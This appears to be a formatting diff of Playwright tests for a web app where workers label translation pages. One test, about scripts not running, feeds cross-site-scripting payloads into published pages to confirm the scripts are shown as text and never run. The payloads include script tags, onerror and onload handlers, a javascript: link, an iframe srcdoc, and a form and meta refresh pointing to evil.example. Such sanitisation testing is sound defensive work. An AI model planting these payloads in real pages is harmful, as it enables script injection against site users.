@@ -72,7 +72,13 @@ def test_a_label_hit_is_judged_by_keyboard_alone(market: Any, page: Any, tmp_pat
     page.keyboard.press("Enter")
     page.wait_for_url("**said=sent_next")
     [answer] = market.answers(hits[0])
-    assert answer.answers == {"label_1": "YES", "label_2": "NOT_SURE", "label_3": "NO", "label_4": "YES", "comment": ""}
+    assert answer.answers == {
+        "label_1": "YES",
+        "label_2": "NOT_SURE",
+        "label_3": "NO",
+        "label_4": "YES",
+        "comment": "",
+    }
     assert status.inner_text() == "0 of 4 answered"  # the next hit, without the draft of the last
     assert "$0.05" in page.locator("header").inner_text()
 
@@ -90,7 +96,9 @@ def test_a_comparison_is_judged_by_hand_on_a_phone(market: Any, chromium: Any) -
     assert page.evaluate("document.documentElement.scrollWidth") <= 390
     assert not page.locator("kbd.key").first.is_visible()  # no keys on a phone
     page.get_by_text("B is better").tap()
-    assert all(box["height"] >= 44 for box in (found.bounding_box() for found in page.locator("label.choice").all()))
+    assert all(
+        box["height"] >= 44 for box in (found.bounding_box() for found in page.locator("label.choice").all())
+    )
     page.get_by_role("button", name="Send").tap()
     page.get_by_text("your answers are saved").wait_for()
     context.close()
@@ -147,11 +155,17 @@ def test_an_unsent_page_survives_a_reload(market: Any, page: Any) -> None:
 def test_no_script_of_a_page_or_candidate_runs(market: Any, page: Any) -> None:
     evil = "<script>window.hacked=1</script><img src=x onerror=window.hacked=1>"
     candidates = [(f"{evil} The rain", range(2)), ("a b c", range(1))]
-    market.publish(market.label_page("en", ("de", "en"), (f"{evil} Regen", range(1)), candidates), "rypt:b5:1")
+    market.publish(
+        market.label_page("en", ("de", "en"), (f"{evil} Regen", range(1)), candidates), "rypt:b5:1"
+    )
     raw = f"<html><body onload='window.hacked=1'><form action='https://evil.example/'>{evil}"
     raw += "<svg><script>window.hacked=1</script></svg><iframe srcdoc='<script>parent.hacked=1</script>'></iframe>"
-    raw += "<a href='javascript:window.hacked=1'>link</a><input name=label_1 onfocus=window.hacked=1 autofocus>"
-    market.publish(raw + "<style>body{display:none}</style><meta http-equiv=refresh content='0;url=//evil'>", "x")
+    raw += (
+        "<a href='javascript:window.hacked=1'>link</a><input name=label_1 onfocus=window.hacked=1 autofocus>"
+    )
+    market.publish(
+        raw + "<style>body{display:none}</style><meta http-equiv=refresh content='0;url=//evil'>", "x"
+    )
     begin(page, market.invite("Dora"))
     assert "<script>" in page.locator(".source").inner_text()  # shown as text
     page.keyboard.press("1")
@@ -239,7 +253,10 @@ def test_after_an_external_page_the_next_one_comes(market: Any, page: Any, other
         frame.get_by_role("button", name="Next page").click()
         page.wait_for_url("**/work/a/*" if n == 0 else "**/work")
     page.get_by_role("heading", name="Nothing to do").wait_for()
-    assert [market.answers(hit)[0].answers for hit in hits] == [{"answer": "answer 0"}, {"answer": "answer 1"}]
+    assert [market.answers(hit)[0].answers for hit in hits] == [
+        {"answer": "answer 0"},
+        {"answer": "answer 1"},
+    ]
 
 
 def test_the_plain_form_works_without_javascript(market: Any, chromium: Any) -> None:
@@ -260,7 +277,8 @@ def test_the_plain_form_works_without_javascript(market: Any, chromium: Any) -> 
 
 def test_the_dashboard_approves_rejects_and_blocks(market: Any, page: Any, tmp_path: Path) -> None:
     hits = [
-        market.publish(market.label_page("en", ("de", "en"), SOURCE, ALTERNATIVES), f"rypt:b7:{n}") for n in range(3)
+        market.publish(market.label_page("en", ("de", "en"), SOURCE, ALTERNATIVES), f"rypt:b7:{n}")
+        for n in range(3)
     ]
     begin(page, market.invite("Fritz"))
     for _ in range(2):
@@ -288,7 +306,8 @@ def test_the_dashboard_approves_rejects_and_blocks(market: Any, page: Any, tmp_p
 
 def test_the_page_sent_last_is_opened_with_its_answers_and_changed(market: Any, page: Any) -> None:
     hits = [
-        market.publish(market.label_page("en", ("de", "en"), SOURCE, ALTERNATIVES), f"rypt:b8:{n}") for n in range(2)
+        market.publish(market.label_page("en", ("de", "en"), SOURCE, ALTERNATIVES), f"rypt:b8:{n}")
+        for n in range(2)
     ]
     begin(page, market.invite("Ada"))
     for key in "1211":
@@ -311,7 +330,9 @@ def test_the_page_sent_last_is_opened_with_its_answers_and_changed(market: Any, 
 def test_no_page_scrolls_sideways_on_a_phone(market: Any, chromium: Any, scheme: str) -> None:
     for n in range(2):
         market.publish(market.label_page("en", ("de", "en"), SOURCE, ALTERNATIVES, REFERENCE), f"rypt:b9:{n}")
-    context = chromium.new_context(locale="en-GB", viewport={"width": 390, "height": 844}, color_scheme=scheme)
+    context = chromium.new_context(
+        locale="en-GB", viewport={"width": 390, "height": 844}, color_scheme=scheme
+    )
     page = context.new_page()
     page.set_default_timeout(10_000)
     widths, grounds = [], set()
